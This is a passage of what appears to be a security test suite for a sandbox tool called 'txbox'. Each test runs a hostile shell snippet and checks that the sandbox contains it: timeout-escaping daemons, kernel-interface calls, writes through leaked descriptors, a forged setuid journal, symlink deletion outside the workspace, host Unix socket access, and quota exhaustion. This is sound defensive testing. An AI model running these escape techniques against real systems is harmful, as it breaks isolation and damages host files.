    limit_kb = base.maxrss_kb + 48 * 1024
    check(res.maxrss_kb <= limit_kb, "txbox's max RSS (wait4, with its sandbox) grew to %d KiB (a trivial run: %d KiB)"
          % (res.maxrss_kb, base.maxrss_kb))
    ctx.note("captured %d bytes, truncated=%s, max RSS %d KiB (wait4: txbox and its sandbox; a trivial run "
             "%d KiB), outcome %s/%s, %.1fs"
             % (len(text), trunc, res.maxrss_kb, base.maxrss_kb, res.outcome, res.get("limit"), res.elapsed))


@attack("output-flood-stdout", heavy=True)
def output_flood_stdout(ctx):
    _flood(ctx, "stdout")


@attack("output-flood-stderr", heavy=True)
def output_flood_stderr(ctx):
    _flood(ctx, "stderr")


def _escapers(mark_prefix):
    return r"""
( setsid sh -c 'while :; do sleep 1; done' "%(p)s1-$MARK" & )
nohup sh -c 'trap "" TERM HUP INT; while :; do sleep 1; done' "%(p)s2-$MARK" >/dev/null 2>&1 &
"$BIN/daemon" "%(p)s3-$MARK" | grep -v PROBE-DONE
setsid -f sh -c 'exec 0<&- 1>&- 2>&-; while :; do sleep 1; done' "%(p)s4-$MARK"
sleep 0.3
echo "INFO $(grep -l "%(p)s" /proc/[0-9]*/cmdline 2>/dev/null | wc -l) escapers running inside"
""" % {"p": mark_prefix}


@attack("timeout-escape", heavy=True)
def timeout_escape(ctx):
    ws = ctx.workspace("timeout-escape")
    ctx.allow_error = True
    res = ctx.run(ws, _escapers("txsec-esc") + "sleep 1000\n", opts=["--timeout", "2"], timeout=60)
    check(res.elapsed < 10, "txbox took %.1fs with --timeout 2" % res.elapsed)
    time.sleep(0.5)
    left = sum(_count_procs(("txsec-esc%d-%s" % (i, ctx.mark)).encode()) for i in (1, 2, 3, 4))
    check(left == 0, "%d process(es) of the command survive the timeout on the host" % left)
    check(res.rc == 124, "no survivors, but exit status %s, not 124: %s" % (res.rc, res.describe()))
    check(res.outcome == "rolled_back" and res.get("rollback_reason") == "timeout",
          "not rolled back for the timeout: %s" % res.describe())


@attack("daemon-after-exit", heavy=True)
def daemon_after_exit(ctx):
    """The command exits 0 at once and leaves daemons: they must die before
    commit and never outlive txbox."""
    ws = ctx.workspace("daemon-exit")
    res = ctx.run(ws, _escapers("txsec-dmn") + "echo made > made.txt\n", timeout=60)
    check(res.outcome == "committed", "unexpected outcome: %s" % res.describe())
    time.sleep(0.5)
    left = sum(_count_procs(("txsec-dmn%d-%s" % (i, ctx.mark)).encode()) for i in (1, 2, 3, 4))
    check(left == 0, "%d daemon process(es) of the command survive txbox on the host" % left)


# ===========================================================================
# Kernel interfaces

def _sys(ctx, mode, required, arg=""):
    ws = ctx.workspace("sys-" + mode)
    res = ctx.run(ws, '"$BIN/sys" %s %s\n' % (mode, arg))
    ctx.expect_blocked(res, required)
    return res


@attack("kernel-module")
def kernel_module(ctx):
    ws = ctx.workspace("module")
    res = ctx.run(ws, r"""
"$BIN/sys" module | grep -v PROBE-DONE
for t in insmod modprobe rmmod; do
  if command -v $t >/dev/null; then must_fail $t-cmd $t txsec_nonexistent; else echo "INFO no $t in the image"; fi
done
""")
    ctx.expect_blocked(res, ["init_module", "finit_module", "delete_module"])


@attack("kexec")
def kexec(ctx):
    _sys(ctx, "kexec", ["kexec_load", "kexec_file_load"])


@attack("bpf")
def bpf(ctx):
    _sys(ctx, "bpf", ["bpf-map-create", "bpf-prog-load"])


@attack("perf-event")
def perf_event(ctx):
    _sys(ctx, "perf", ["perf_event_open-self", "perf_event_open-cpu-wide"])


@attack("keyctl")
def keyctl(ctx):
    _sys(ctx, "keyctl", ["add_key-user-keyring", "keyctl-join-session", "request_key"], ctx.mark)
    keys = read_text("/proc/keys", "")
    check(ctx.pwn not in keys, "a key made in the sandbox is in the host's keyrings")


@attack("io-uring")
def io_uring(ctx):
    _sys(ctx, "io_uring", ["io_uring_setup"])


@attack("userfaultfd")
def userfaultfd(ctx):
    _sys(ctx, "userfaultfd", ["userfaultfd", "open-/dev/userfaultfd"])


@attack("hostname")
def hostname(ctx):
    h0 = socket.gethostname()
    d0 = read_text("/proc/sys/kernel/domainname")
    ws = ctx.workspace("hostname")
    res = ctx.run(ws, r"""
"$BIN/sys" hostname "$MARK" | grep -v PROBE-DONE
must_fail hostname-cmd hostname "$PWN"
command -v hostnamectl >/dev/null && must_fail hostnamectl hostnamectl set-hostname "$PWN"
""")
    ctx.expect_blocked(res, ["sethostname", "setdomainname", "hostname-cmd"])
    check(socket.gethostname() == h0, "the host's hostname changed to %s" % socket.gethostname())
    check(read_text("/proc/sys/kernel/domainname") == d0, "the host's domain name changed")


@attack("clock-set")
def clock_set(ctx):
    ws = ctx.workspace("clock")
    t0 = time.time()
    res = ctx.run(ws, r"""
"$BIN/sys" clock | grep -v PROBE-DONE
must_fail date-set date -s "@$(date +%s)"
""")
    ctx.expect_blocked(res, ["clock_settime", "settimeofday", "adjtimex-set", "date-set"])
    check(abs(time.time() - t0 - res.elapsed) < 5, "the host clock jumped")


@attack("sysadmin-syscalls")
def sysadmin_syscalls(ctx):
    _sys(ctx, "sysadmin", ["reboot-cad-on", "acct", "swapon", "iopl", "ioperm", "syslog-read-all"])


@attack("open-by-handle")
def open_by_handle(ctx):
    _sys(ctx, "handle", ["open_by_handle_at", "open_by_handle_at-rw"])


# ===========================================================================
# Descriptors and the state directory

@attack("inherited-fd")
def inherited_fd(ctx):
    """Descriptors txbox's caller leaks (not close-on-exec) must not reach
    the command: a leaked directory fd is a way out of any mount view."""
    d = os.path.join(ctx.vis_root, "fdleak")
    rmtree_force(d)
    os.makedirs(d)
    f = os.path.join(d, "file.txt")
    with open(f, "w") as fh:
        fh.write("sentinel\n")
    fd_file = os.open(f, os.O_RDWR)
    fd_dir = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
    fd_root = os.open("/etc", os.O_RDONLY | os.O_DIRECTORY)
    for x in (fd_file, fd_dir, fd_root):
        os.set_inheritable(x, True)
        ctx.on_cleanup(lambda x=x: os.close(x))
    before = snapshot(d, recursive=True, content=True)
    before_etc = snapshot("/etc", content=True)
    ws = ctx.workspace("fdleak")
    res = ctx.run(ws, r"""
"$BIN/fdleak" "$PWN" | grep -v PROBE-DONE
for n in %d %d %d; do must_fail_sh proc-fd-$n "echo pwn >> /proc/self/fd/$n"; done
""" % (fd_file, fd_dir, fd_root), pass_fds=(fd_file, fd_dir, fd_root))
    ctx.expect_blocked(res)
    inherited = [l for l in res.stdout.splitlines() if l.startswith("INFO inherited fd")]
    assert_same(before, snapshot(d, recursive=True, content=True), "the directory behind the leaked fds")
    assert_same(before_etc, snapshot("/etc", content=True), "/etc")
    if inherited:
        ctx.note("descriptors reaching the command: %s" % "; ".join(l[5:] for l in inherited))


@attack("state-dir-tamper")
def state_dir_tamper(ctx):
    """WORKSPACE/.txbox is hidden from the command and commit never writes
    into it, whatever the command creates under that name."""
    ws = ctx.workspace("state")
    # a first transaction creates the state dir
    ctx.run(ws, "echo first > first.txt\n")
    state = os.path.join(ws, ".txbox")
    check(os.path.isdir(state), "no state dir after a first run")

    def state_snap():
        s = snapshot(state, recursive=True, content=True)
        # the transactions' own dirs come and go; the rest must not change
        return {k: v for k, v in s.items() if not k.startswith("tx/") and k != "tx"}
    before = state_snap()
    res = ctx.run(ws, r"""
ls -la .txbox 2>&1 | head -5
must_fail_sh state-list "ls .txbox/tx"
must_fail_sh state-write "echo pwn > .txbox/$PWN"
must_fail_sh state-gitignore "echo '!*' > .txbox/.gitignore"
must_fail_sh state-via-proc "ls /proc/self/cwd/.txbox/tx"
grep -E 'overlay|upperdir' /proc/self/mountinfo | head -3
# what the command may do in its own view: make a directory of that name
mkdir -p .txbox/tx 2>/dev/null && echo "INFO created .txbox in the view"
echo pwn > .txbox/$PWN 2>/dev/null
echo pwn > .txbox/tx/$PWN 2>/dev/null
mkdir -p ".txbox/tx/$PWN" 2>/dev/null
""")
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    check("PROBE-DONE" in res.stdout, "the attack did not run to its end: %s" % res.describe())
    for l in res.lines("ESCAPED"):
        # listing/writing the real state dir from inside
        raise Fail("the state dir is reachable inside: %s" % l[8:])
    assert_same(before, state_snap(), "WORKSPACE/.txbox")


# ===========================================================================
# State the command plants for a later txbox run, and workspaces reached
# through what it committed

def _txbox_later(ctx, args, cwd):
    """A later `txbox run` by the same user, from cwd (its $PWD the logical
    path, as a shell that cd'ed there reports it)."""
    full = [ctx.txbox] + args[:1] + (["--policy", ctx.policy] if ctx.policy and args[0] == "run" else []) + args[1:]
    env = ctx.base_env({"PWD": cwd})
    return subprocess.run(full, cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=60)


@attack("state-planted-nested-journal")
def state_planted_nested_journal(ctx):
    """The command commits sub/.txbox/tx/<id> with an 'applying' journal
    whose reversal would make its own sub/prog setuid (as root: setuid
    root). A later txbox run from sub, named sub, or recover there must
    never read it as state."""
    ws = ctx.workspace("nestjournal")
    ctx.run(ws, "mkdir -p sub && printf '#!/bin/sh\\nid\\n' > sub/prog && chmod 755 sub/prog\n")
    prog = os.path.join(ws, "sub", "prog")
    check(os.path.isfile(prog), "the first transaction did not commit sub/prog")
    plant = r"""
ino=$(stat -c %i sub/prog)
hex=$(printf prog | od -An -tx1 | tr -d ' \n')
d=sub/.txbox/tx/20260101-000000-0000beef
mkdir -p $d/displaced $d/layers/0/upper $d/layers/0/work
printf 'applying 1\n' > $d/state
printf 'txbox-journal 1\n2 1 %s %s 104755 %s %s 0 0 0 0 %s\n' $ino $ino $(id -u) $(id -g) $hex > $d/journal
printf '*\n' > sub/.txbox/.gitignore
chmod -R go-w sub/.txbox
echo "INFO planted for inode $ino"
"""
    r = ctx.run(ws, plant)
    journal = os.path.join(ws, "sub", ".txbox", "tx", "20260101-000000-0000beef", "journal")
    if os.path.exists(journal):
        raise Fail("a command committed a nested state dir (sub/.txbox): %s" % short(r.stderr))
    why = (r.get("error") or "") + r.raw_err.decode("utf-8", "replace")
    check(".txbox" in why, "the commit refusal does not name .txbox: %s" % short(why))
    # The second line of defence, for a .txbox that got there some other way
    # (made by the workspace's owner, or by an older txbox): plant it
    # directly, then no later run or recover may read it as state.
    subprocess.run(["sh", "-c", plant], cwd=ws, check=True, stdout=subprocess.DEVNULL)
    check(os.path.exists(journal), "planting the nested state directly failed")
    sub = os.path.join(ws, "sub")
    for args in (["run", "--", "true"], ["run", "-w", sub, "--", "true"], ["recover"], ["recover", "-w", sub]):
        r = _txbox_later(ctx, args, sub)
        mode = stat.S_IMODE(os.stat(prog).st_mode)
        if mode & 0o6000 or mode != 0o755:
            raise Fail("`txbox %s` from sub applied the planted journal: sub/prog is now %04o (%s)"
                       % (" ".join(args), mode, short(r.stderr)))


@attack("state-committed-symlink-workspace")
def state_committed_symlink_workspace(ctx):
    """The command commits sub -> a directory outside the workspace; a
    later `cd ws/sub && txbox run …` must not take that directory for a
    workspace (and write and delete there)."""
    outside = os.path.join(ctx.vis_root, "symws-" + ctx.pwn)
    rmtree_force(outside)
    os.makedirs(outside)
    with open(os.path.join(outside, "victim"), "w") as f:
        f.write("keep\n")
    ctx.on_cleanup(lambda: rmtree_force(outside))
    ws = ctx.workspace("symws")
    ctx.run(ws, "ln -s '%s' sub\n" % outside)
    check(os.path.islink(os.path.join(ws, "sub")), "the symlink was not committed (the attack did not run)")
    logical = os.path.join(ws, "sub")
    for args in (["run", "--", "sh", "-c", "echo pwn > %s-made; rm -f victim" % ctx.pwn],
                 ["run", "-w", logical, "--", "sh", "-c", "rm -f victim"],
                 ["run", "-w", "sub", "--", "sh", "-c", "rm -f victim"]):
        r = _txbox_later(ctx, args, logical if "-w" not in args else ws)
        names = sorted(os.listdir(outside))
        if names != ["victim"]:
            raise Fail("`txbox %s` through the committed symlink worked outside the workspace: %r (%s)"
                       % (" ".join(args[:3]), names, short(r.stderr)))
# Host Unix sockets, however and whenever they were bound. A host listener
# is reachable by path whatever network namespace it lives in; the sandbox
# must refuse every one not on allowed_sockets, and keep its own working.

def _sock_dir(ctx, name):
    d = os.path.join(ctx.vis_root, name)
    rmtree_force(d)
    os.makedirs(d)
    os.chmod(d, 0o755)
    return d


def _host_listener(ctx, bind_path, kind=socket.SOCK_STREAM, cwd=None):
    """A host listener bound at bind_path exactly as given (relative to cwd
    when given), world-connectable."""
    back = os.getcwd()
    if cwd:
        os.chdir(cwd)
    try:
        l = Listener(socket.AF_UNIX, bind_path, kind)
        os.chmod(bind_path, 0o777)
    finally:
        os.chdir(back)
    ctx.on_cleanup(l.close)
    return l


def _unix_host(ctx, label, listeners, body, steps, opts=()):
    """Run body (shell text) and require each step blocked and no listener
    touched."""
    ws = ctx.workspace("uh-" + label)
    res = ctx.run(ws, body, opts=opts)
    for l in listeners:
        l.close()
    hits = [(l.addr, h) for l in listeners for h in l.hits]
    check(not hits, "host listener(s) reached from the sandbox: %s" % short(repr(hits[:3]), 200))
    ctx.expect_blocked(res, steps)
    return res


def _sh(path):
    return "'" + path.replace("'", "'\\''") + "'"


@attack("unix-host-relative")
def unix_host_relative(ctx):
    """Bound with a relative path: /proc/net/unix shows `rel.sock`."""
    d = _sock_dir(ctx, "uh-rel")
    l = _host_listener(ctx, "rel.sock", cwd=d)
    _unix_host(ctx, "rel", [l], '"$BIN/unixhost" stream abs %s | grep -v PROBE-DONE\n'
               'cd %s && "$BIN/unixhost" stream rel rel.sock | grep -v PROBE-DONE\n'
               '"$BIN/unixhost" fdpath fdpath rel.sock | grep -v PROBE-DONE\n' % (_sh(d + "/rel.sock"), _sh(d)),
               ["stream-abs", "stream-rel", "stream-fdpath"])


@attack("unix-host-non-canonical")
def unix_host_non_canonical(ctx):
    """Bound as DIR//x.sock and DIR/./y.sock; reached by the canonical names too."""
    d = _sock_dir(ctx, "uh-canon")
    a = _host_listener(ctx, d + "//dslash.sock")
    b = _host_listener(ctx, d + "/./dot.sock")
    _unix_host(ctx, "canon", [a, b], r"""
"$BIN/unixhost" stream dslash %s | grep -v PROBE-DONE
"$BIN/unixhost" stream dslash-as-bound %s | grep -v PROBE-DONE
"$BIN/unixhost" stream dot %s | grep -v PROBE-DONE
""" % (_sh(d + "/dslash.sock"), _sh(d + "//dslash.sock"), _sh(d + "/dot.sock")),
        ["stream-dslash", "stream-dslash-as-bound", "stream-dot"])


@attack("unix-host-renamed")
def unix_host_renamed(ctx):
    """Renamed after binding (/proc/net/unix keeps the old name)."""
    d = _sock_dir(ctx, "uh-ren")
    l = _host_listener(ctx, d + "/before.sock")
    os.rename(d + "/before.sock", d + "/after.sock")
    _unix_host(ctx, "ren", [l], '"$BIN/unixhost" stream renamed %s\n' % _sh(d + "/after.sock"), ["stream-renamed"])


@attack("unix-host-hardlinked")
def unix_host_hardlinked(ctx):
    """Hard-linked after binding (OpenSSH ControlMaster does this): the
    bound name may even be gone."""
    d = _sock_dir(ctx, "uh-link")
    l = _host_listener(ctx, d + "/orig.sock")
    os.link(d + "/orig.sock", d + "/linked.sock")
    l2 = _host_listener(ctx, d + "/gone.sock")
    os.link(d + "/gone.sock", d + "/master.sock")
    os.unlink(d + "/gone.sock")
    _unix_host(ctx, "link", [l, l2], r"""
"$BIN/unixhost" stream linked %s | grep -v PROBE-DONE
"$BIN/unixhost" stream master %s | grep -v PROBE-DONE
""" % (_sh(d + "/linked.sock"), _sh(d + "/master.sock")), ["stream-linked", "stream-master"])


@attack("unix-host-newline")
def unix_host_newline(ctx):
    """A newline in the name breaks the lines of /proc/net/unix."""
    d = _sock_dir(ctx, "uh-nl")
    p = d + "/nl\n0000000000000000: 00000002 00000000 00010000 0001 01 1 x.sock"  # a line of its own
    l = _host_listener(ctx, p)
    _unix_host(ctx, "nl", [l], '"$BIN/unixhost" stream newline %s\n' % _sh(p), ["stream-newline"])


@attack("unix-host-dgram")
def unix_host_dgram(ctx):
    """Datagrams addressed to a host socket: sendto, sendmsg, sendmmsg."""
    d = _sock_dir(ctx, "uh-dgram")
    l = _host_listener(ctx, "d.sock", socket.SOCK_DGRAM, cwd=d)
    p = _sh(d + "/d.sock")
    _unix_host(ctx, "dgram", [l], r"""
"$BIN/unixhost" dgram sendto %s | grep -v PROBE-DONE
"$BIN/unixhost" sendmsg msg %s | grep -v PROBE-DONE
"$BIN/unixhost" sendmmsg mmsg %s | grep -v PROBE-DONE
""" % (p, p, p), ["dgram-sendto", "sendmsg-msg", "sendmmsg-mmsg"])


@attack("unix-host-other-netns")
def unix_host_other_netns(ctx):
    """A listener of another network namespace (a container's, say):
    pathname sockets ignore network namespaces."""
    unshare = which("unshare")
    if not unshare:
        raise Skip("no unshare(1)")
    d = _sock_dir(ctx, "uh-netns")
    p = d + "/netns.sock"
    code = ("import socket,os,sys,select\n"
            "s=socket.socket(socket.AF_UNIX); s.bind(%r); os.chmod(%r,0o777); s.listen(4)\n"
            "print('ready',flush=True)\n"
            "while select.select([s,sys.stdin],[],[],60)[0]==[s]:\n"
            "  c,_=s.accept(); print('HIT',flush=True); c.close()\n" % (p, p))
    argv = [unshare, "-n"] if ctx.is_root else [unshare, "-rn"]
    proc = subprocess.Popen(argv + ["/usr/bin/python3", "-c", code], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True)

    def stop():
        proc.stdin.close()
        proc.wait(10)
    ctx.on_cleanup(stop)
    check(proc.stdout.readline().strip() == "ready", "the listener in another network namespace did not start")
    res = _unix_host(ctx, "netns", [], '"$BIN/unixhost" stream netns %s\n' % _sh(p), ["stream-netns"])
    proc.stdin.close()
    out = proc.stdout.read()
    check("HIT" not in out, "the listener in another network namespace was reached: %s" % res.describe())


@attack("unix-host-bound-later")
def unix_host_bound_later(ctx):
    """Bound on the host while the command already runs."""
    d = _sock_dir(ctx, "uh-later")
    p = d + "/later.sock"
    made = []

    def bind_soon(proc):
        def go():
            time.sleep(1.0)
            made.append(_host_listener(ctx, p))
        threading.Thread(target=go, daemon=True).start()
    ws = ctx.workspace("uh-later")
    res = ctx.run(ws, '"$BIN/unixhost" later late %s 20\n' % _sh(p), on_start=bind_soon)
    for l in made:
        l.close()
    check(made, "the host listener was never bound")
    check(res.lines("INFO later-seen"), "the sandbox never saw the late socket (vacuous): %s" % res.describe())
    check(not made[0].hits, "the late host listener was reached from the sandbox")
    ctx.expect_blocked(res, ["stream-late"])


@attack("unix-host-race")
def unix_host_race(ctx):
    """TOCTOU: a thread flips the sockaddr between the command's own socket
    and a host one while connect() runs; the host one never answers."""
    d = _sock_dir(ctx, "uh-race")
    hp = d + "//race.sock"  # bound non-canonically: the old listing missed it
    l = _host_listener(ctx, hp)
    res = _unix_host(ctx, "race", [l], '"$BIN/unixhost" race flip /tmp/own-race.sock %s 3000\n' % _sh(d + "/race.sock"),
                     ["race-flip"])
    own = [int(x.split()[-1]) for x in res.lines("INFO race-own-connects")]
    check(own and own[0] > 0, "no connect to the command's own socket succeeded (vacuous): %s" % res.describe())


@attack("unix-host-io-uring")
def unix_host_io_uring(ctx):
    """IORING_OP_CONNECT would bypass the seccomp filter: io_uring is refused."""
    d = _sock_dir(ctx, "uh-uring")
    l = _host_listener(ctx, "u.sock", cwd=d)
    _unix_host(ctx, "uring", [l], '"$BIN/unixhost" iouring uring %s\n' % _sh(d + "/u.sock"), ["iouring-uring"])


@attack("unix-host-with-net")
def unix_host_with_net(ctx):
    """--net grants the host's network, not its Unix sockets."""
    d = _sock_dir(ctx, "uh-net")
    a = _host_listener(ctx, "rel.sock", cwd=d)
    b = _host_listener(ctx, d + "/before.sock")
    os.rename(d + "/before.sock", d + "/after.sock")
    _unix_host(ctx, "net", [a, b], r"""
"$BIN/unixhost" stream net-rel %s | grep -v PROBE-DONE
"$BIN/unixhost" stream net-renamed %s | grep -v PROBE-DONE
""" % (_sh(d + "/rel.sock"), _sh(d + "/after.sock")), ["stream-net-rel", "stream-net-renamed"], opts=["--net"])


@attack("unix-own-sockets")
def unix_own_sockets(ctx):
    """Sockets the command binds itself (workspace, /tmp) keep working:
    stream connect, sendto, sendmsg passing a descriptor — with and
    without --net."""
    ws = ctx.workspace("uh-own")
    for opts in ([], ["--net"]):
        res = ctx.run(ws, r"""
"$BIN/unixhost" own ws "$PWD" | grep -v PROBE-DONE
"$BIN/unixhost" own tmp /tmp | grep -v PROBE-DONE
rm -f own-stream.sock own-dgram.sock
""", opts=opts)
        ok = res.lines("OWN-OK")
        check(len(ok) == 2, "the command's own sockets failed%s: %s" % (" (--net)" if opts else "", res.describe()))


@attack("unix-allowed-socket")
def unix_allowed_socket(ctx):
    """A host socket on the policy's allowed_sockets stays reachable (by any
    name of its inode); its neighbour does not."""
    d = _sock_dir(ctx, "uh-allowed")
    ok = _host_listener(ctx, d + "/ok.sock")
    no = _host_listener(ctx, d + "/no.sock")
    pol = os.path.join(ctx.vis_root, "allowed-socket.yaml")
    with open(ctx.policy) as f:
        text = f.read()
    with open(pol, "w") as f:
        f.write(text.replace("allowed_sockets: []", "allowed_sockets: [%s]" % (d + "/ok.sock")))
    saved, ctx.policy = ctx.policy, pol
    try:
        ws = ctx.workspace("uh-allowed")
        res = ctx.run(ws, '"$BIN/unixhost" stream allowed %s | grep -v PROBE-DONE\n'
                      '"$BIN/unixhost" stream other %s\n' % (_sh(d + "/ok.sock"), _sh(d + "/no.sock")))
    finally:
        ctx.policy = saved
    ok.close()
    no.close()
    check(res.lines("ESCAPED stream-allowed"), "the allowed socket was refused: %s" % res.describe())
    check(ok.hits, "the allowed socket's listener got nothing")
    check(not no.hits and not res.lines("ESCAPED stream-other"), "a socket not allowed was reached")


@attack("unix-host-in-workspace")
def unix_host_in_workspace(ctx):
    """A host listener inside the workspace (git's fsmonitor socket lives in
    .git/), and a symlink the command makes in its own /tmp to a host
    socket: neither is the sandbox's own."""
    ws = ctx.workspace("uh-inws")
    os.makedirs(os.path.join(ws, ".git"))
    l = _host_listener(ctx, os.path.join(ws, ".git", "fsmonitor.ipc"))
    d = _sock_dir(ctx, "uh-sym")
    l2 = _host_listener(ctx, "s.sock", cwd=d)
    res = ctx.run(ws, r"""
"$BIN/unixhost" stream in-ws .git/fsmonitor.ipc | grep -v PROBE-DONE
ln -s %s /tmp/sym.sock
"$BIN/unixhost" stream symlink /tmp/sym.sock | grep -v PROBE-DONE
""" % _sh(d + "/s.sock"))
    for x in (l, l2):
        x.close()
    check(not l.hits and not l2.hits, "a host listener was reached: %s" % res.describe())
    ctx.expect_blocked(res, ["stream-in-ws", "stream-symlink"])
    os.unlink(os.path.join(ws, ".git", "fsmonitor.ipc"))  # ours, not the command's: not a published socket


@attack("unix-guard-malformed")
def unix_guard_malformed(ctx):
    """Malformed socket calls get the kernel's own errors (the supervisor
    copies them, never past what the caller gave), and it keeps serving."""
    ws = ctx.workspace("uh-malformed")
    res = ctx.run(ws, '"$BIN/unixhost" malformed m /tmp\n')
    ctx.expect_blocked(res, ["cmsg-past-buffer", "iovlen-too-big", "name-bad-pointer", "connect-bad-pointer",
                             "connect-long-len", "connect-not-socket", "connect-bad-fd"])
    check(res.lines("OWN-OK"), "the command's own sockets failed after malformed calls: %s" % res.describe())


@attack("unix-allowed-socket-replaced")
def unix_allowed_socket_replaced(ctx):
    """The allowed socket is removed on the host while the command runs and
    another listener is bound next to it: on ext4 the new socket would get
    the freed inode number. Only the allowed inode itself may be reached."""
    d = _sock_dir(ctx, "uh-replaced")
    ok = d + "/ok.sock"
    other = d + "/other.sock"
    first = _host_listener(ctx, ok)
    pol = os.path.join(ctx.vis_root, "allowed-replaced.yaml")
    with open(ctx.policy) as f:
        text = f.read()
    with open(pol, "w") as f:
        f.write(text.replace("allowed_sockets: []", "allowed_sockets: [%s]" % ok))
    made, inos = [], []

    def swap_soon(proc):
        def go():
            time.sleep(1.0)
            inos.append(os.stat(ok).st_ino)
            first.close()
            os.unlink(ok)
            made.append(_host_listener(ctx, other))
            inos.append(os.stat(other).st_ino)
        threading.Thread(target=go, daemon=True).start()
    saved, ctx.policy = ctx.policy, pol
    try:
        ws = ctx.workspace("uh-replaced")
        res = ctx.run(ws, '"$BIN/unixhost" later replaced %s 20\n' % _sh(other), on_start=swap_soon)
    finally:
        ctx.policy = saved
    for l in made:
        l.close()
    check(made and res.lines("INFO later-seen"), "the replacement socket was never seen: %s" % res.describe())
    if inos[0] != inos[1]:
        ctx.note("the replacement got another inode number (%d, %d)" % tuple(inos))
    check(not made[0].hits, "a socket that took the allowed one's inode number was reached")
    ctx.expect_blocked(res, ["stream-replaced"])
# Memory held outside any process, and the default disk/inode quota

def _shmhog(ctx, mode, extra=""):
    """512 MiB of shared memory under --memory 64M: whatever holds it (a
    memfd, a SysV segment, a file of the private tmpfs), it is host memory
    and must count, as root (cgroup) and rootless (no cgroup here)."""
    ws = ctx.workspace("shmhog-" + mode)
    ctx.allow_error = True
    res = ctx.run(ws, r'"$BIN/shmhog" %s 512 %s' % (mode, extra),
                  opts=["--memory", "64M", "--timeout", "60"], timeout=120)
    mech = (res.get("limits") or {}).get("mechanism")
    got = [l for l in res.stdout.splitlines() if l.startswith(("SURVIVED", "STOPPED"))]
    check("SURVIVED" not in res.stdout, "held 512 MiB (%s) under --memory 64M (mechanism %s): %s"
          % (mode, mech, res.describe()))
    check(res.outcome == "rolled_back" and res.get("limit") == "memory",
          "not rolled back for the memory limit (%s, mechanism %s; the program said %s): %s"
          % (mode, mech, got[0] if got else "nothing", res.describe()))
    ctx.note("%s: stopped by %s (%s)" % (mode, mech, got[0] if got else "killed before it said more"))


# the memfd-in-flight variant: the only reference is in a Unix socket's
# queue — in no fd table and no mapping
for _name, _mode, _extra in (("shm-memfd-open", "memfd", ""), ("shm-memfd-mapped-closed", "memfd-map", ""),
                             ("shm-memfd-in-flight", "memfd-fly", ""), ("shm-sysv", "sysv", ""),
                             ("shm-dev-shm-file", "file", "/dev/shm/txsec-hog"),
                             ("shm-tmp-file", "file", "/tmp/txsec-hog")):
    attack(_name, heavy=True)(lambda ctx, m=_mode, e=_extra: _shmhog(ctx, m, e))


@attack("shm-private-tmpfs-total", heavy=True)
def shm_private_tmpfs_total(ctx):
    """Without a memory limit the private /tmp, /var/tmp, /dev/shm and /run
    are still host memory: together they may not take more than half of
    the machine's RAM (one tmpfs, one size cap)."""
    if not ctx.policy:
        raise Skip("needs the suite's policy file (--no-policy given)")
    nolimit = os.path.join(ctx.scripts, "no-memory-limit.yaml")
    with open(ctx.policy) as f:
        text = f.read()
    check("    memory: 4G\n" in text, "the suite's policy no longer says memory: 4G")
    with open(nolimit, "w") as f:
        f.write(text.replace("    memory: 4G\n", "    memory: 0\n"))
    saved = ctx.policy
    ctx.policy = nolimit
    ctx.on_cleanup(lambda: setattr(ctx, "policy", saved))
    ws = ctx.workspace("tmpfs-total")
    res = ctx.run(ws, r"""
df -k /tmp /var/tmp /dev/shm /run 2>/dev/null | awk 'NR>1 {print "SIZE", $6, $2}'
""")
    ram_kb = os.sysconf("SC_PHYS_PAGES") * os.sysconf("SC_PAGE_SIZE") // 1024
    sizes = {l.split()[1]: int(l.split()[2]) for l in res.lines("SIZE")}
    check("/tmp" in sizes, "no size for /tmp: %s" % res.describe())
    # one file system behind all of them: the sizes are not to be added,
    # but each alone must stay within half of the RAM, and they must be one
    check(all(v <= ram_kb // 2 + 1024 for v in sizes.values()),
          "a private tmpfs may grow past half of the RAM (%d KiB): %s" % (ram_kb, sizes))
    check((res.get("limits") or {}).get("memory") == 0, "the policy without a memory limit still has one")
    ws2 = ctx.workspace("tmpfs-total-dev")
    res2 = ctx.run(ws2, r"""
head -c 1048576 /dev/zero > /dev/shm/txsec-a
df -k /tmp | awk 'NR>1 {print "USED", $3}'
""")
    used = [int(l.split()[1]) for l in res2.lines("USED")]
    check(used and used[0] >= 1024, "a file in /dev/shm is not counted with /tmp (separate tmpfs instances, "
          "whose caps add up): %s" % res2.describe())


@attack("default-disk-limit")
def default_disk_limit(ctx):
    """The default policy (mirrored by the suite's policy) has a disk limit:
    without one, 1 GiB and 100,000 files were committed."""
    saved = ctx.policy
    ctx.on_cleanup(lambda: setattr(ctx, "policy", saved))
    for policy in (saved, None):  # the suite's copy and the built-in one
        ctx.policy = policy
        ws = ctx.workspace("default-disk")
        res = ctx.run(ws, argv=["true"])
        disk = (res.get("limits") or {}).get("disk")
        check(disk and disk >= 4 << 30, "the disk limit of %s is %r (bytes), not a few GiB"
              % (policy or "the built-in policy", disk))
        check((res.get("limits") or {}).get("memory"), "no default memory limit")


@attack("disk-inodes", heavy=True)
def disk_inodes(ctx):
    """Empty files take no blocks: 3000 of them under --disk 16M (1024
    inodes) must be stopped as the disk limit, by inodes."""
    ws = ctx.workspace("disk-inodes")
    ctx.allow_error = True
    res = ctx.run(ws, r"""
mkdir d
python3 -c 'import os
for i in range(3000): open("d/f%d" % i, "w").close()' || echo "INFO python3 failed"
echo "INFO $(ls d | wc -l) files"
""", opts=["--disk", "16M", "--timeout", "60"], timeout=120)
    left = len(os.listdir(os.path.join(ws, "d"))) if os.path.isdir(os.path.join(ws, "d")) else 0
    check(left == 0, "%d empty files committed under --disk 16M (1024 inodes): %s" % (left, res.describe()))
    check(res.outcome == "rolled_back" and res.get("limit") == "disk",
          "not rolled back for the disk limit: %s" % res.describe())


@attack("disk-inodes-hardlinks", heavy=True)
def disk_inodes_hardlinks(ctx):
    """Names without inodes: 3000 hard links of one file fill directories
    (a name costs directory blocks): counted like files."""
    ws = ctx.workspace("disk-links")
    ctx.allow_error = True
    res = ctx.run(ws, r"""
mkdir d; echo x > d/f
python3 -c 'import os
for i in range(3000): os.link("d/f", "d/l%d" % i)' || echo "INFO python3 failed"
""", opts=["--disk", "16M", "--timeout", "60"], timeout=120)
    check(res.outcome == "rolled_back" and res.get("limit") == "disk",
          "3000 hard links committed under --disk 16M: %s" % res.describe())


